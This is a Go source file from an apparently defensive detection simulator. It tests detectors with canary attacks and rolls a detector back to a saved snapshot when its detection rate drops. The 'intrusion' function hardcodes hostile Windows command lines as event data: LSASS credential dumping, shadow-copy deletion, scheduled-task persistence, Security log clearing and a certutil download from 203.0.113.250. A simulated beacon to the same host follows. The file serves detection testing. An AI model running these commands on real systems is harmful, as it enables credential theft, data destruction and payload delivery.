package guard

import (
	"bytes"
	"fmt"
	"io"
	"strings"
	"time"

	"hemostat/defenders/alert"
	"hemostat/defenders/detect"
	"hemostat/defenders/inventory"
	"hemostat/defenders/sentinel"
	"hemostat/defenders/sentinel/behavior"
	"hemostat/defenders/sentinel/encrypted"
	"hemostat/sim/event"
	"hemostat/sim/severity"
	"hemostat/sim/snapshot"
)

// watched is a detector that is tried with canaries: attacks of which it is known that it must
// see them. They are shown to a copy, so that it learns nothing of them. When the share of them
// that is seen falls to half of what it was, the detector goes back to its last state in which it
// saw them.
type watched struct {
	inner detect.Detector
	name  string                                                      `snapshot:"-"`
	build func() (detect.Detector, error)                             `snapshot:"-"`
	tries func(at time.Duration, host *inventory.Host) []*event.Event `snapshot:"-"`
	hosts []*inventory.Host                                           `snapshot:"-"`
	every time.Duration                                               `snapshot:"-"`

	next time.Duration
	best float64 // share of canaries that was seen at most
	good []byte  // last state in which enough were seen
	told bool
}

// canaryHosts is on how many hosts the canaries are tried.
const canaryHosts = 3

// canaries are what each detector must see.
var canaries = map[string]func(at time.Duration, host *inventory.Host) []*event.Event{
	behavior.Kind.Name:  intrusion,
	encrypted.Kind.Name: beacon,
}

// Watch lets the detectors that have canaries be tried; build makes a detector anew as it was
// before it learned anything.
func (g *Guard) Watch(members []sentinel.Member, build func(name string) (detect.Detector, error)) {
	if g.options.Canaries == 0 || g.inventory == nil {
		return
	}
	for i := range members {
		m := &members[i]
		tries := canaries[m.Name]
		if tries == nil {
			continue
		}
		of := m.Name
		m.Detector = &watched{inner: m.Detector, name: of, build: func() (detect.Detector, error) { return build(of) }, tries: tries,
			hosts: workstations(g.inventory), every: g.options.Canaries}
	}
}

// workstations are hosts of people, spread over the inventory.
func workstations(v *inventory.Inventory) []*inventory.Host {
	var all []*inventory.Host
	for i := range v.Hosts {
		if h := &v.Hosts[i]; h.Owner != "" && h.OS == "windows" {
			all = append(all, h)
		}
	}
	if len(all) <= canaryHosts {
		return all
	}
	var out []*inventory.Host
	for i := range canaryHosts {
		out = append(out, all[i*len(all)/canaryHosts])
	}
	return out
}

// Inspect implements detect.Detector.
func (w *watched) Inspect(now time.Duration, e *event.Event, report detect.Report) error {
	if e.Time >= w.next && len(w.hosts) > 0 {
		if err := w.try(e, report); err != nil {
			return err
		}
	}
	return w.inner.Inspect(now, e, report)
}

// try shows the canaries to a copy of the detector.
func (w *watched) try(e *event.Event, report detect.Report) error {
	w.next = e.Time + w.every
	var state bytes.Buffer
	if err := snapshot.Save(&state, &held{w.inner}, w.Fixed()...); err != nil {
		return fmt.Errorf("canaries of %s: %w", w.name, err)
	}
	seen, err := w.seen(e.Time, state.Bytes())
	if err != nil {
		return err
	}
	if w.best == 0 || seen*2 > w.best { // one that is still warming up has lost nothing
		w.best = max(w.best, seen)
		if seen > 0 {
			w.good = state.Bytes()
		}
		w.told = false
		return nil
	}
	if !w.told {
		w.told = true
		report(detect.Finding{
			RuleID: name + "/canary", Title: "A Detector No Longer Sees What It Must", Severity: severity.High, Confidence: 0.7,
			EventTime: e.Time, Evidence: []uint64{e.ID}, Entities: &alert.Entities{},
			Reasons: []alert.Reason{{
				Part: w.name, Field: "canaries seen", Value: fmt.Sprintf("%.0f %%", 100*seen),
				Test: fmt.Sprintf("%.0f %% before", 100*w.best),
			}},
		})
	}
	if w.good == nil {
		return nil
	}
	w.inner, err = w.restored(w.good)
	return err
}

// held is a detector as the root of a snapshot.
type held struct{ Detector detect.Detector }

// restored is a new detector in a state.
func (w *watched) restored(state []byte) (detect.Detector, error) {
	d, err := w.build()
	if err != nil {
		return nil, fmt.Errorf("canaries of %s: %w", w.name, err)
	}
	h := &held{d}
	var fixed []any
	if r, ok := d.(detect.Referring); ok {
		fixed = r.Fixed()
	}
	if err := snapshot.Load(bytes.NewReader(state), h, fixed...); err != nil {
		return nil, fmt.Errorf("canaries of %s: %w", w.name, err)
	}
	return h.Detector, nil
}

// seen is the share of canaries that a detector in a state sees.
func (w *watched) seen(now time.Duration, state []byte) (float64, error) {
	n := 0
	for _, host := range w.hosts {
		d, err := w.restored(state)
		if err != nil {
			return 0, err
		}
		found := false
		report := func(f detect.Finding) {
			found = found || f.Entities == nil || strings.EqualFold(f.Entities.Host, host.Name) || f.Entities.User == host.Owner
		}
		last := now
		for _, e := range w.tries(now, host) {
			last = max(last, e.Time)
			if err := d.Inspect(e.Time, e, report); err != nil {
				return 0, err
			}
		}
		if timed, ok := d.(detect.Timed); ok {
			if err := timed.Advance(last+time.Hour, report); err != nil {
				return 0, err
			}
		}
		if found {
			n++
		}
	}
	return float64(n) / float64(len(w.hosts)), nil
}

// intrusion is what many attacks do on a host within minutes.
func intrusion(at time.Duration, host *inventory.Host) []*event.Event {
	at += 15*time.Minute - at%(15*time.Minute) // a window of its own
	var out []*event.Event
	for i, line := range []string{
		`C:\Windows\System32\whoami.exe /all`, `C:\Windows\System32\nltest.exe /domain_trusts`, `C:\Windows\System32\net.exe group "Domain Admins" /domain`,
		`C:\Windows\System32\rundll32.exe C:\Windows\System32\comsvcs.dll,MiniDump 624 C:\Windows\Temp\l.dmp full`,
		`C:\Windows\System32\schtasks.exe /create /tn update /tr C:\Users\Public\agent.exe /sc onlogon`, `C:\Users\Public\agent.exe -s`,
		`C:\Windows\System32\vssadmin.exe delete shadows /all /quiet`, `C:\Windows\Temp\procdump64.exe -ma lsass.exe`,
		`C:\Windows\System32\certutil.exe -urlcache -f http://203.0.113.250/a C:\Users\Public\a.exe`, `C:\Windows\System32\wevtutil.exe cl Security`,
	} {
		image, _, _ := strings.Cut(line, " ")
		e := &event.Event{
			Time: at + time.Duration(i)*30*time.Second, Host: host.Name,
			Source: event.LogSource{Product: "windows", Service: "sysmon", Category: "process_creation"},
		}
		e.Set(event.EventID, "1")
		e.Set(event.Computer, host.Name)
		e.Set(event.Image, image)
		e.Set(event.CommandLine, line)
		e.Set(event.ParentImage, `C:\Users\Public\agent.exe`)
		e.Set(event.User, host.Owner)
		out = append(out, e)
	}
	return out
}

// beacon calls a place that nobody else calls, every minute.
func beacon(at time.Duration, host *inventory.Host) []*event.Event {
	const place = "203.0.113.250"
	var out []*event.Event
	for i := range 40 {
		when := at + time.Duration(i)*time.Minute
		for _, service := range []string{"ssl", "conn"} {
			e := &event.Event{Time: when, Host: "sensor", Source: event.LogSource{Product: "zeek", Service: service}}
			e.Set(event.IDOrigHost, host.IP)
			e.Set(event.IDRespHost, place)
			e.Set(event.IDRespPort, "443")
			if service == "ssl" {
				e.Set(event.ServerName, "canary.example")
				e.Set(event.JA4, "t13i190800_9dc949149365_97f8aa674fd9")
			} else {
				e.Set(event.ConnState, "SF")
				e.Set(event.OrigBytes, "640")
				e.Set(event.RespBytes, "1000")
			}
			out = append(out, e)
		}
	}
	return out
}

// What the detector can do besides is done by the one that is tried.

// NextWake implements detect.Timed.
func (w *watched) NextWake() (time.Duration, bool) {
	if t, ok := w.inner.(detect.Timed); ok {
		return t.NextWake()
	}
	return 0, false
}

// Advance implements detect.Timed.
func (w *watched) Advance(now time.Duration, report detect.Report) error {
	if t, ok := w.inner.(detect.Timed); ok {
		return t.Advance(now, report)
	}
	return nil
}

// End implements detect.Ending.
func (w *watched) End(now time.Duration, report detect.Report) error {
	if t, ok := w.inner.(detect.Ending); ok {
		return t.End(now, report)
	}
	return nil
}

// Save implements detect.Stateful.
func (w *watched) Save(to io.Writer) error { return w.inner.(detect.Stateful).Save(to) }

// Load implements detect.Stateful.
func (w *watched) Load(from io.Reader) error { return w.inner.(detect.Stateful).Load(from) }

// Fixed implements detect.Referring.
func (w *watched) Fixed() []any {
	if r, ok := w.inner.(detect.Referring); ok {
		return r.Fixed()
	}
	return nil
}

// Notes implements detect.Noting.
func (w *watched) Notes() []string {
	if n, ok := w.inner.(detect.Noting); ok {
		return n.Notes()
	}
	return nil
}
